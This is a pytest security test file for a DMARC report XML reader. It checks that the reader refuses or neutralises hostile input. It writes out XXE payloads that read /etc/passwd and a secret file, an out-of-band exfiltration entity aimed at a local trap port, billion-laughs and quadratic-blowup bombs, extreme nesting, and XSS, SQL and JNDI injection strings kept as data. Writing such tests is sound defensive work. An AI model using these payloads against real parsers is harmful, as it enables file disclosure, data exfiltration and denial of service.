"""Hostile XML: external entities and DTDs (no file read, no connection), entity expansion bombs, extreme
nesting, hostile text kept as data, and oversized text."""
from __future__ import annotations

import time
from pathlib import Path

import hostile_reports as reports
import pytest
from hostile_probe import ConnectionTrap, describe, probe

from chalicelib.dmarc import ErrorKind, Limits, ReportError, read_message
from chalicelib.dmarc.reader import Outcome

SECRET = "s3cr3t-hostile-token-7f1c"
PASSWD_MARKERS = ("root:x:0:0", "root:*:0:0", "/bin/sh", "/bin/bash", "nologin")
FAST_SECONDS = 5.0
MAX_RSS_MB = 100


def _everything_said(outcome: Outcome) -> str:
    """All the text the outcome exposes: reports (every field, through repr) and problem messages."""
    text = [repr(report) for report in outcome.reports]
    text += [f"{problem.message} {problem!r}" for problem in outcome.problems]
    try:
        outcome.require()
    except ReportError as exc:
        text.append(f"{exc.message} {exc}")
    return "\n".join(text)


def _assert_refused_or_unexpanded(outcome: Outcome, *forbidden: str) -> None:
    said = _everything_said(outcome)
    for marker in forbidden:
        assert marker not in said, f"{marker!r} leaked into the outcome: {said[:500]}"
    if not outcome.reports:
        with pytest.raises(ReportError):
            outcome.require()


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(f"{SECRET}\n")
    return path


def _entity_doc(declarations: str, org_name_xml: str) -> bytes:
    return reports.aggregate_xml(doctype=f"<!DOCTYPE feedback [\n{declarations}\n]>\n", org_name_xml=org_name_xml)


def test_file_entity_etc_passwd_does_not_leak() -> None:
    data = _entity_doc('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;")
    _assert_refused_or_unexpanded(read_message(data), *PASSWD_MARKERS)


@pytest.mark.parametrize("declarations, reference", [
    ('<!ENTITY xxe SYSTEM "file://{path}">', "&xxe;"),
    ('<!ENTITY xxe PUBLIC "-//x//y" "file://{path}">', "&xxe;"),
    ('<!ENTITY xxe SYSTEM "{path}">', "&xxe;"),  # a plain path, resolved relative to nothing
    ('<!ENTITY % p SYSTEM "file://{path}"> %p;', "x"),  # parameter entity
], ids=["system-file-url", "public-file-url", "system-plain-path", "parameter-entity"])
def test_file_entity_does_not_leak(secret_file: Path, declarations: str, reference: str) -> None:
    data = _entity_doc(declarations.format(path=secret_file), reference)
    _assert_refused_or_unexpanded(read_message(data), SECRET)


def test_external_dtd_file_is_not_loaded(tmp_path: Path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(f'<!ENTITY leak "{SECRET}">\n')
    data = reports.aggregate_xml(doctype=f'<!DOCTYPE feedback SYSTEM "file://{dtd}">\n', org_name_xml="&leak;")
    _assert_refused_or_unexpanded(read_message(data), SECRET)


def test_xinclude_is_not_processed(secret_file: Path) -> None:
    data = reports.aggregate_xml(
        feedback_attrs=' xmlns:xi="http://www.w3.org/2001/XInclude"',
        org_name_xml=f'Receiver<xi:include href="file://{secret_file}" parse="text"/>')
    _assert_refused_or_unexpanded(read_message(data), SECRET)


def test_network_entity_on_discard_port_does_not_leak() -> None:
    data = _entity_doc('<!ENTITY net SYSTEM "http://127.0.0.1:9/">', "&net;")
    start = time.perf_counter()
    outcome = read_message(data)
    assert time.perf_counter() - start < FAST_SECONDS
    _assert_refused_or_unexpanded(outcome, "HTTP/", "<html")


@pytest.mark.parametrize("template", [
    '<!DOCTYPE feedback [<!ENTITY net SYSTEM "http://127.0.0.1:{port}/entity">]>\n',
    '<!DOCTYPE feedback [<!ENTITY % net SYSTEM "http://127.0.0.1:{port}/param.dtd"> %net;]>\n',
    '<!DOCTYPE feedback SYSTEM "http://127.0.0.1:{port}/external.dtd">\n',
    '<!DOCTYPE feedback PUBLIC "-//hostile//DTD x//EN" "http://127.0.0.1:{port}/public.dtd">\n',
    '<!DOCTYPE feedback [<!ENTITY % file SYSTEM "file:///etc/hostname">'
    '<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://127.0.0.1:{port}/?d=%file;\'>">%eval;%exfil;]>\n',
], ids=["general-entity", "parameter-entity", "external-dtd", "public-dtd", "out-of-band-exfiltration"])
def test_no_network_connection_is_attempted(template: str) -> None:
    with ConnectionTrap() as trap:
        doctype = template.format(port=trap.port)
        org = "&net;" if "ENTITY net" in template else "Receiver"
        outcome = read_message(reports.aggregate_xml(doctype=doctype, org_name_xml=org))
        time.sleep(0.2)
    assert trap.hits == [], f"the parser connected to 127.0.0.1:{trap.port}"
    _assert_refused_or_unexpanded(outcome, "GET /")


def test_xsi_schema_location_is_not_fetched() -> None:
    with ConnectionTrap() as trap:
        attrs = (' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
                 f' xsi:noNamespaceSchemaLocation="http://127.0.0.1:{trap.port}/rua.xsd"')
        outcome = read_message(reports.aggregate_xml(feedback_attrs=attrs))
        time.sleep(0.2)
    assert trap.hits == []
    assert len(outcome.require()) == 1  # harmless attribute: the report is still read


def _billion_laughs() -> bytes:
    levels = ['<!ENTITY lol0 "lol">']
    levels += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return _entity_doc("\n".join(levels), "&lol9;")


def _quadratic_blowup() -> bytes:
    big = "A" * 100_000
    return _entity_doc(f'<!ENTITY a "{big}">', "&a;" * 100_000)  # 10 GB if expanded


@pytest.mark.parametrize("build", [_billion_laughs, _quadratic_blowup], ids=["billion-laughs", "quadratic-blowup"])
def test_entity_expansion_bomb_is_refused_fast_in_bounded_memory(tmp_path: Path, build) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "bomb.xml"
    path.write_bytes(build())
    result = probe(path)
    assert result.raised is None, describe(result)
    assert result.seconds < FAST_SECONDS, describe(result)
    assert result.rss_delta_mb < MAX_RSS_MB, describe(result)
    assert result.reports == 0 or result.longest_org_name < 1000, describe(result)
    if result.reports == 0:
        assert result.kinds, describe(result)


@pytest.mark.parametrize("closed", [True, False], ids=["closed", "unclosed"])
def test_200k_deep_nesting_is_an_error_not_a_recursion_error(closed: bool) -> None:
    depth = 200_000
    data = b"<?xml version='1.0'?><feedback>" + b"<a>" * depth + (b"</a>" * depth + b"</feedback>" if closed else b"")
    start = time.perf_counter()
    outcome = read_message(data)  # anything but an Outcome (RecursionError included) fails the test here
    assert time.perf_counter() - start < FAST_SECONDS
    assert outcome.reports == ()
    with pytest.raises(ReportError) as caught:
        outcome.require()
    assert caught.value.kind in (ErrorKind.LIMIT_EXCEEDED, ErrorKind.MALFORMED)


@pytest.mark.parametrize("form", ["xml", "gzip"])
def test_nesting_beyond_256_levels_is_limit_exceeded(form: str) -> None:
    """limits.py: XML depth is capped at 256 levels by libxml2; deeper input is refused as limit_exceeded."""
    inner = "<x>" * 300 + "</x>" * 300
    data = reports.forms(reports.aggregate_xml(org_name_xml=f"Receiver{inner}"))[form]
    with pytest.raises(ReportError) as caught:
        read_message(data).require()
    assert caught.value.kind is ErrorKind.LIMIT_EXCEEDED


def test_deep_nesting_inside_a_valid_report_is_refused() -> None:
    depth = 200_000
    inner = "<x>" * depth + "</x>" * depth
    data = reports.aggregate_xml(org_name_xml=f"Receiver{inner}")
    outcome = read_message(data)
    assert outcome.reports == ()
    with pytest.raises(ReportError) as caught:
        outcome.require()
    assert caught.value.kind in (ErrorKind.LIMIT_EXCEEDED, ErrorKind.MALFORMED)


HOSTILE_TEXT = "<script>alert(1)</script>"


@pytest.mark.parametrize("org_name_xml, expected", [
    (f"<![CDATA[{HOSTILE_TEXT}]]>", HOSTILE_TEXT),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", HOSTILE_TEXT),
    ("&#60;script&#62;alert(1)&#60;/script&#62;", HOSTILE_TEXT),
    ("&#x3C;img src=x onerror=&quot;alert(&apos;1&apos;)&quot;&#x3E;", "<img src=x onerror=\"alert('1')\">"),
    ("Receiver &amp; Co &lt;b&gt;bold&lt;/b&gt; ' \" ; DROP TABLE reports; --",
     "Receiver & Co <b>bold</b> ' \" ; DROP TABLE reports; --"),
    ("{{7*7}} ${jndi:ldap://127.0.0.1:9/a} %s%n", "{{7*7}} ${jndi:ldap://127.0.0.1:9/a} %s%n"),
], ids=["cdata", "named-entities", "decimal-refs", "hex-refs-attr-injection", "sql-and-markup", "templates"])
def test_hostile_text_is_kept_verbatim_as_data(org_name_xml: str, expected: str) -> None:
    for form, data in reports.forms(reports.aggregate_xml(org_name_xml=org_name_xml)).items():
        (report,) = read_message(data).require()
        assert report.metadata.org_name == expected, form


def test_hostile_text_in_a_reason_comment_is_kept_verbatim() -> None:
    record = reports.record_xml(comment_xml=f"<![CDATA[{HOSTILE_TEXT}]]>")
    (report,) = read_message(reports.aggregate_xml(record_xmls=[record])).require()
    assert [reason.comment for reason in report.records[0].reasons] == [HOSTILE_TEXT]


def test_oversized_element_text_exceeds_the_default_limit() -> None:
    size = Limits().max_text_bytes + 1
    data = reports.aggregate_xml(org_name="A" * size)
    with pytest.raises(ReportError) as caught:
        read_message(data).require()
    assert caught.value.kind is ErrorKind.LIMIT_EXCEEDED


@pytest.mark.parametrize("form", ["xml", "gzip", "email-gzip"])
def test_oversized_element_text_exceeds_a_small_limit(form: str) -> None:
    data = reports.forms(reports.aggregate_xml(org_name="B" * 101))[form]
    with pytest.raises(ReportError) as caught:
        read_message(data, Limits(max_text_bytes=100)).require()
    assert caught.value.kind is ErrorKind.LIMIT_EXCEEDED
    assert len(read_message(data, Limits(max_text_bytes=101)).require()) == 1  # the boundary is inclusive


@pytest.mark.parametrize("record", [
    reports.record_xml(source_ip_xml="1" * 10 * Limits().max_text_bytes),
    reports.record_xml(comment_xml="C" * 10 * Limits().max_text_bytes),
], ids=["source-ip", "reason-comment"])
def test_huge_text_in_a_record_field_is_limited(record: str) -> None:
    """Either the whole report is refused with LIMIT_EXCEEDED, or that record is dropped with a warning; the
    huge text is never kept."""
    outcome = read_message(reports.aggregate_xml(record_xmls=[record, reports.record_xml(1)]))
    if not outcome.reports:
        with pytest.raises(ReportError) as caught:
            outcome.require()
        assert caught.value.kind is ErrorKind.LIMIT_EXCEEDED
        return
    (report,) = outcome.reports
    assert len(report.records) == 1 and report.warnings
    assert len(repr(report)) < Limits().max_text_bytes
